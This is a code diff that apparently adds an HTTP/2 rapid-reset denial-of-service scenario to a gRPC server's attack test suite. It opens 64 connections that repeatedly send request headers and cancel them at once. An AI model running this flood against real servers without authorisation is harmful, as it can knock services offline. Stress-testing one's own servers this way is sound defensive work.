@@ -31,9 +31,22 @@ const heap = (one: Buffer): Buffer =>
 const ids = (count: number, first = 0): number[] =>
   Array.from({ length: count }, (_, i) => 2 * (first + i) + 1);
 
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+
 /** A stream that is taken back at once. */
 const takenBack = (id: number): Buffer =>
-  Buffer.concat([callFrame(id, SIGN), frame(Frame.reset, id, Buffer.from([0, 0, 0, 8]))]);
+  Buffer.concat([callFrame(id, SIGN), frame(Frame.reset, id, CANCEL)]);
+
+/** Heads of requests that are refused in different places. */
+const REQUESTS: readonly Buffer[] = [
+  ...['GET', 'HEAD', 'OPTIONS', 'POST'].map((method) =>
+    Buffer.concat([Buffer.from([0x86]), header(':method', method), header(':path', '/')]),
+  ),
+  Buffer.concat([header(':method', 'CONNECT'), header(':authority', 'localhost:80')]),
+  callHead('/none'),
+  callHead(SIGN, header('grpc-encoding', 'gzip')),
+  callHead(SIGN, header('grpc-timeout', 'never')),
+];
 
 /** A field of Protobuf with bytes in it. */
 function field(number: number, content: Uint8Array): Buffer {
@@ -73,6 +86,25 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
     run: ({ grpcUrl }, until) =>
       keepOpen(grpcUrl, { count: 64, perSecond: 200 }, until, (socket) => {
         drained(socket).write(Buffer.concat([greeting(), ...ids(500).map(takenBack)]));
+      }),
+  },
+  {
+    name: 'h2-taken-back',
+    what: '64 connections begin requests of every kind over HTTP/2, also such as are no call, and take them back in the same segment',
+    run: ({ grpcUrl }, until) =>
+      keepOpen(grpcUrl, { count: 64, perSecond: 200 }, until, async (socket) => {
+        drained(socket).write(greeting());
+        for (let first = 0; !socket.destroyed; first += REQUESTS.length) {
+          const pairs = REQUESTS.map((head, index) => {
+            const id = 2 * (first + index) + 1;
+            return Buffer.concat([
+              frame(Frame.headers, id, head, WHOLE_HEAD),
+              frame(Frame.reset, id, CANCEL),
+            ]);
+          });
+          socket.write(Buffer.concat(pairs));
+          await sleep(100);
+        }
       }),
   },
   {
